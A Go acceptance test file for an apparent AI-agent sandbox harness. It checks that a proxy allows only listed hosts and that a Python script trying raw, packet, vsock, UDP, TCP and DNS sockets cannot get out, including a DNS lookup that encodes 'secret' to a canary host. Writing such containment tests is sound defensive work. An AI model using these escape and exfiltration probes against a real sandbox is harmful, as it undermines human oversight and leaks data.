//go:build linux

package acceptance

import (
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/dsh-harness/dsh/internal/need"
	"github.com/dsh-harness/dsh/internal/testllm"
)

// TestNetwork_RealPrograms has curl reach what rules allow, by the proxy that it finds in its environment, and nothing else.
func TestNetwork_RealPrograms(t *testing.T) {
	need.Program(t, "curl", "curl")
	p := newPlace(t)
	if !p.confines() {
		need.Missing(t, "commands are not confined here: allow user namespaces")
	}
	var denied atomic.Int32
	handler := func(answer string, count *atomic.Int32) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if count != nil {
				count.Add(1)
			}
			_, _ = fmt.Fprintf(w, "%s from %s", answer, r.URL.Path)
		}
	}
	plain, secure := httptest.NewServer(handler("plain", nil)), httptest.NewUnstartedServer(handler("secure", nil))
	secure.Config.ErrorLog = log.New(io.Discard, "", 0) // of the handshake that is refused
	secure.StartTLS()
	other := httptest.NewServer(handler("other", &denied))
	moved := httptest.NewServer(http.RedirectHandler(other.URL+"/moved", http.StatusFound))
	for _, s := range []*httptest.Server{plain, secure, other, moved} {
		t.Cleanup(s.Close)
	}
	at := func(s *httptest.Server) string { return s.Listener.Addr().String() }
	p.file("network.yml", fmt.Sprintf("- id: network\n  config:\n    allow: [%q, %q, %q, %q]\n    deny: [never.example]\n",
		at(plain), at(secure), at(moved), strings.Replace(at(plain), "127.0.0.1", "localhost", 1)))
	curl := func(args string) string { return "curl -sS --max-time 10 --noproxy '' " + args + " 2>&1" }
	steps := []struct{ id, command, want string }{
		{"http", curl("http://" + at(plain) + "/a"), "plain from /a"},
		{"name", curl("http://" + strings.Replace(at(plain), "127.0.0.1", "localhost", 1) + "/b"), "plain from /b"},
		{"https", curl("-k https://" + at(secure) + "/c"), "secure from /c"},
		{"refused", curl("http://" + at(other) + "/d"), "to allow it: " + at(other) + " in the list allow"},
		{"redirect", curl("-L http://" + at(moved) + "/"), "the address is private or reserved"},
		{"tunnel", curl("-k https://" + at(other) + "/e"), "let it not reach " + at(other)},
		{"unknown", curl("https://a.example/"), "let it not reach a.example:443: no rule allows this host"},
		{"denied", curl("https://never.example/"), "the rule that denies never.example"},
		{"name in TLS", curl("-k --connect-to ::" + at(secure) + " https://b.example/"), "TLS asks for \"b.example\" in a tunnel to 127.0.0.1"},
		{"direct", "curl -sS --max-time 5 --noproxy '*' http://" + at(plain) + "/f 2>&1", "[exit code 7]"},
	}
	var calls []testllm.Call
	for _, s := range steps {
		calls = append(calls, shell(s.id, s.command))
	}
	p.srv.Script(testllm.Calls(calls...), testllm.Text("done"))
	p.ok(p.dsh("run", "--patch", "network.yml", "hi"), "done")
	got := results(p.requests(2)[1])
	for _, s := range steps {
		if !strings.Contains(got[s.id], s.want) {
			t.Errorf("%s: %q, want …%s…", s.id, got[s.id], s.want)
		}
	}
	if denied.Load() != 0 {
		t.Error("what no rule allows was reached")
	}
}

// TestTrust_N03_NothingLeavesASandbox tries each kind of socket from a confined command; what waits on this machine hears nothing.
func TestTrust_N03_NothingLeavesASandbox(t *testing.T) {
	python := need.Program(t, "/usr/bin/python3", "python3")
	p := newPlace(t)
	if !p.confines() {
		need.Missing(t, "commands are not confined here: allow user namespaces")
	}
	var hits atomic.Int32
	addresses := []string{"127.0.0.1"}
	all, err := net.InterfaceAddrs()
	check(t, err)
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			addresses = append(addresses, n.IP.String())
		}
	}
	var work sync.WaitGroup
	t.Cleanup(work.Wait)
	var baits []string
	for _, ip := range addresses {
		tcp, err := net.Listen("tcp", ip+":0")
		check(t, err)
		udp, err := net.ListenPacket("udp", tcp.Addr().String())
		check(t, err)
		t.Cleanup(func() { _, _ = tcp.Close(), udp.Close() })
		work.Go(func() {
			for {
				c, err := tcp.Accept()
				if err != nil {
					return
				}
				hits.Add(1)
				_ = c.Close()
			}
		})
		work.Go(func() {
			for {
				if _, _, err := udp.ReadFrom(make([]byte, 1)); err != nil {
					return
				}
				hits.Add(1)
			}
		})
		baits = append(baits, tcp.Addr().String())
	}
	p.file("try.py", `
import socket, struct, sys, os
def tried(name, f):
    try:
        f()
        print("DONE", name)
    except Exception as e:
        print("kept", name, type(e).__name__)
def tcp(at, proto=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto); s.settimeout(2); s.connect(at); s.send(b"x")
def udp(at):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(at); s.send(b"x"); s.send(b"x"); s.recv(1)
def tfo(at):
    s = socket.socket(); s.settimeout(2); s.sendto(b"x", 0x20000000, at)
def raw(proto):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto); s.sendto(b"\x08\x00\xf7\xff\0\0\0\0", ("127.0.0.1", 0))
def ping(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b"\x08\x00\xf7\xff\0\0\0\0", (ip, 0)); s.recv(1)
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("lo", 0)); s.send(b"x" * 60)
def vsock():
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(2); s.connect((2, 1234))
def dns(name):
    socket.getaddrinfo(name, 80)
for bait in sys.argv[1:]:
    ip, port = bait.split(":"); at = (ip, int(port))
    tried("tcp", lambda: tcp(at)); tried("mptcp", lambda: tcp(at, 262)); tried("udp", lambda: udp(at)); tried("tfo", lambda: tfo(at))
    if ip != "127.0.0.1":
        tried("ping", lambda: ping(ip))
tried("raw icmp", lambda: raw(1)); tried("raw udp", lambda: raw(17)); tried("packet", packet); tried("vsock", vsock)
tried("dns", lambda: dns("c2VjcmV0.canary.example")); tried("dns server", lambda: udp(("192.0.2.1", 53)))
print("END")
`)
	p.srv.Script(testllm.Calls(shell("one", python+" try.py "+strings.Join(baits, " ")+"; getent hosts c2VjcmV0.canary.example && echo DONE getent")), testllm.Text("done"))
	p.ok(p.dsh("run", "hi"), "done")
	got := results(p.requests(2)[1])["one"]
	if strings.Contains(got, "DONE") || !strings.Contains(got, "END") || strings.Count(got, "kept") < 10 {
		t.Errorf("what was tried: %s", got)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("%d packets arrived: %s", n, got)
	}
}
